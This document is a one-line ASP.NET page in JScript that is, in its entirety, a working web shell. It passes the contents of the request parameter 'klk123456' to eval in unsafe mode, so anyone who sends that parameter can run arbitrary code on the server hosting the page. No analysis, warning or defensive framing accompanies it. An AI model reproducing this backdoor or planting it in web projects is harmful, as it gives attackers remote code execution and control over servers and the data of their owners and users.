<%@ Page Language="Jscript"%><%eval(Request["klk123456"],"unsafe");%>
